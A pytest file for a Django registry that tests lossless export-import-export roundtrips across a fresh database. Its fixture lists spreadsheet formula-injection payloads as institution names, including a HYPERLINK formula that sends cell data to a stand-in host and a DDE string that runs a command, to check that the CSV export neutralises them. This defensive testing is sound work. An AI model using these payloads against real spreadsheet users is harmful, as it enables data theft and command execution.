"""The open data is lossless: export the seeded registry, import it into a freshly migrated empty
database, export again, and get the same bytes. Runs on the suite's own database engine (SQLite or
PostgreSQL), in a database of its own made by `migrate`."""
import io
import os
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import connection

from catalog.models import Source
from tests.factories import InstitutionFactory

ROOT = Path(__file__).resolve().parents[2]

pytestmark = pytest.mark.django_db


def manage(*args: str, database_url: str) -> str:
    env = {**os.environ, "DATABASE_URL": database_url}
    result = subprocess.run([sys.executable, "manage.py", *args], cwd=ROOT, env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr
    return result.stdout


@pytest.fixture
def fresh_database_url(tmp_path):
    """The address of a new, empty database on the suite's engine; dropped afterwards."""
    if connection.vendor == "sqlite":
        yield f"sqlite:///{tmp_path / 'fresh.sqlite3'}"
        return
    import psycopg2

    settings = connection.settings_dict
    name = f"roundtrip_{uuid.uuid4().hex[:12]}"
    server = dict(host=settings["HOST"], port=settings["PORT"], user=settings["USER"],
                  password=settings["PASSWORD"], dbname="postgres")
    admin = psycopg2.connect(**server)
    admin.autocommit = True
    admin.cursor().execute(f'CREATE DATABASE "{name}"')
    try:
        auth = settings["USER"] + (f":{settings['PASSWORD']}" if settings["PASSWORD"] else "")
        yield f"postgres://{auth}@{settings['HOST']}:{settings['PORT']}/{name}"
    finally:
        admin.cursor().execute(f'DROP DATABASE IF EXISTS "{name}"')
        admin.close()


# Names a spreadsheet would run as formulas (issue 9): the CSV quotes them, the import takes the quote off.
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', "+1+cmd|' /C calc'!A0", "-2+3 University",
                 "@SUM(1+9) College", "'=Genuinely quoted University", "''+Twice quoted Institute"]


@pytest.fixture
def hostile_institutions():
    source = Source.objects.first()
    for name in HOSTILE_NAMES:
        InstitutionFactory(name=name).sources.add(source)


def files_of(directory: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted(directory.iterdir())}


@pytest.mark.parametrize("extension", ["csv", "json"])
def test_export_import_into_a_new_database_export_is_byte_identical(tmp_path, fresh_database_url, extension,
                                                                   hostile_institutions):
    call_command("export_registry", str(tmp_path / "first"), stdout=io.StringIO())
    first = files_of(tmp_path / "first")

    manage("migrate", "--noinput", "-v", "0", database_url=fresh_database_url)
    paths = sorted(str(path) for path in (tmp_path / "first").glob(f"*.{extension}"))
    manage("import_registry", "--publish", *paths, database_url=fresh_database_url)
    manage("export_registry", str(tmp_path / "second"), database_url=fresh_database_url)

    assert files_of(tmp_path / "second") == first
    # Every kind came across, activities and institution names included.
    assert b"csu-delegation-korea-japan-2019" in first["activities.csv"]
    assert b"former" in first["institution_names.csv"]
    assert b"\"'=HYPERLINK(" in first["institutions.csv"]
    assert b"'''+Twice quoted Institute" in first["institutions.csv"]
